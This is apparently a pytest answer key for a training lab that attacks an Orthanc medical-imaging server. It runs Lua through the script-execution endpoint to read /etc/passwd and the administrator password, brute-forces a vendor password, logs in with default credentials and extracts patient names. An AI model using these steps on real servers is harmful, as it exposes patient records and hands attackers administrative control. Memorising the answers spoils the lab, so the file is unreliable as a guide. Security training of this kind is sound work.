"""The questions of the scenarios on passwords, rights and data, answered as their hints say."""

from contextlib import ExitStack

import httpx
import pytest

from tests.support.servers import sessions


@pytest.fixture(scope="module")
def lab(runtime):
    with ExitStack() as stack:
        running = {}

        def of(scenario):
            if scenario not in running:
                running[scenario] = stack.enter_context(sessions(runtime, f"takes-{runtime}", scenario))("student")
            return running[scenario]

        yield of


def answered(session, answers):
    for objective, answer in answers.items():
        result = session.check(objective, answer)
        assert result.passed, (objective, answer, result.message)


def test_question_readers_password_leads_to_administrators(lab):
    session = lab("remote-code")
    reader = session.deployment.handover().web.radiologist.credentials
    with httpx.Client(base_url=session.url, auth=reader, timeout=20) as client:
        scripts = {
            "script-runs": "print(17 * 23)",
            "first-account": "print(io.open('/etc/passwd'):read('*l'))",
            "becoming-administrator": "print(GetOrthancConfiguration()['RegisteredUsers']['administrator'])",
        }
        said = {name: client.post("/tools/execute-script", content=script).text for name, script in scripts.items()}
        image = client.get("/instances").json()[0]
        folders = client.request("PROPFIND", "/webdav/", headers={"Depth": "1"}).text
        assert "uploads" in folders
        answered(
            session,
            {
                "patients-in-reach": len(client.get("/patients").json()),
                "script-runs": said["script-runs"].strip(),
                "first-account": said["first-account"].split(":")[0],
                "becoming-administrator": said["becoming-administrator"].strip(),
                "swallowed-file": client.post(f"/instances/{image}/export", content="/dev/null").status_code,
                "drop-folder": "uploads",
            },
        )


def test_question_three_accounts_are_guessed(lab):
    session = lab("well-known-password")

    def status(*account):
        return httpx.get(f"{session.url}/system", auth=account or None, timeout=20).status_code

    year = next(number for number in range(2010, 2021) if status("service", f"service{number}") == httpx.codes.OK)
    assert status("orthanc", "orthanc") == status("viewer", "") == httpx.codes.OK
    archive = session.archive("orthanc", "orthanc")
    ending = session.key.facts["asked_number_ending"]
    records = [patient["MainDicomTags"] for patient in archive.get_patients({"expand": ""})]
    answered(
        session,
        {
            "locked-door": httpx.get(f"{session.url}/patients", timeout=20).status_code,
            "handbook-account": "orthanc",
            "silent-account": "viewer",
            "vendor-password": f"service{year}",
            "patients-seen": len(archive.get_instances()),
            "whose-number": next(record["PatientName"] for record in records if record["PatientID"].endswith(ending)),
        },
    )


def test_question_image_is_stored_twice_and_listed(lab):
    session = lab("silent-overwrite")
    archive = session.archive(*session.deployment.handover().web.administrator.credentials)
    again = archive.post_instances(archive.get_instances_id_file(archive.get_instances()[0]))

    def found(device, level, query):
        made = session.modality(device).query({"Level": level, "Query": query})
        client = session.device(device)
        return [
            client.get_queries_id_answers_index_content(made["ID"], index, {"simplify": ""})
            for index in client.get_queries_id_answers(made["ID"])
        ]

    ending = session.key.facts["asked_number_ending"]
    made = session.modality("WS01").query({"Level": "Instance", "Query": {}})
    answered(
        session,
        {
            "device-count": len(archive.get_modalities()),
            "second-upload": again["Status"],
            "image-count": len(session.device("WS01").get_queries_id_answers(made["ID"])),
            "scanner-asks": found("CT01", "Patient", {"PatientID": f"*{ending}", "PatientName": ""})[0]["PatientName"],
            "prominent-target": session.key.facts["prominent_name"],
        },
    )
